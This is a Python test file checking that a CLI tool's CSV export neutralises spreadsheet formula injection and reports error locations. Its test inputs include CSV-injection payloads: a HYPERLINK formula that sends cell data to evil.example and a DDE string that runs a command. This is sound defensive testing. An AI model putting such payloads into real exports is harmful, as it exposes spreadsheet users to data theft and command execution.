"""`batch`'s CSV output, opened in a spreadsheet by HR staff or read by a program: a text
cell that a spreadsheet would run as a formula opens with a `'`, one already opening with
`'` gets another, so taking the first `'` off gives every text back; numbers stay numbers;
and each problem in the error cell says where it is, exactly as the JSON Lines output does.
Regressions: formula ids were written as given; an id opening with `'` could not be told
from a neutralised one; a row with a single problem had no `line:col` in its error cell."""
from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner

from pathfit.cli.main import cli
from pathfit.engine.cohort.results import render

LEADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3", "\t=1+1",
         "'=1+1", "'plain", "''", "-5", "O'Brien"]


def _batch(tmp_path, name: str, text: str, out: str):
    (tmp_path / name).write_text(text)
    return CliRunner().invoke(cli, ["batch", str(tmp_path / name), "--out", str(tmp_path / out), "--jobs", "1",
                                    "--quiet"])


def _csv_rows(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text())))


def test_taking_the_first_quote_off_a_csv_cell_gives_back_every_id_as_jsonl_has_it(tmp_path):
    rows = "".join(json.dumps({"id": i, "needs": ["performance"]}) + "\n" for i in LEADS)
    assert _batch(tmp_path, "in.jsonl", rows, "out.csv").exit_code == 0
    assert _batch(tmp_path, "in.jsonl", rows, "out.jsonl").exit_code == 0
    cells = [r["id"] for r in _csv_rows(tmp_path / "out.csv")]
    assert cells == ["'" + i for i in LEADS[:-1]] + ["O'Brien"]  # each one a spreadsheet would run, or opening with '
    assert [c[1:] if c.startswith("'") else c for c in cells] == LEADS
    assert [json.loads(line)["id"] for line in (tmp_path / "out.jsonl").read_text().splitlines()] == LEADS


def test_numbers_stay_numbers_and_only_text_cells_get_a_quote():
    decided = {"row": 3, "id": "-2+3", "outcome": "coaching", "confidence": -0.5, "settled": True, "referral": None,
               "formats": ["one_to_one"], "fired": ["r1", "r2"], "error": None, "errors": []}
    problem = {"code": "PF404", "message": "'=1+1' is not a number", "line": 7, "col": 4}
    refused = {"row": 4, "id": "@x", "outcome": None, "confidence": None, "settled": None, "referral": None,
               "formats": [], "fired": [], "error": problem, "errors": [problem]}
    assert render([decided, refused], "csv") == (
        "3,'-2+3,coaching,-0.5,true,,one_to_one,r1;r2,,\r\n"
        "4,'@x,,,,,,,PF404,7:4: PF404: '=1+1' is not a number\r\n")


def test_a_single_problem_in_the_csv_error_cell_is_located_as_in_jsonl(tmp_path):
    # a blank line and a quoted line break: row numbers are not line numbers
    rows = 'id,hours_per_month,goal_clarity\n\nr1,"1\n",specific\nr2,-1,specific\nr3,-1,specfic\n'
    assert _batch(tmp_path, "in.csv", rows, "out.csv").exit_code == 1
    assert _batch(tmp_path, "in.csv", rows, "out.jsonl").exit_code == 1
    cells = {r["id"]: r["error"] for r in _csv_rows(tmp_path / "out.csv")}
    results = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    for result in results:
        assert cells[result["id"]] == "; ".join(f"{e['line']}:{e['col']}: {e['code']}: {e['message']}"
                                                for e in result["errors"])
    assert cells["r1"] == ""
    assert cells["r2"].startswith("5:4: PF404: ")  # row 2, line 5
    assert [e["code"] for e in results[2]["errors"]] == ["PF404", "PF403"]  # several, each located too
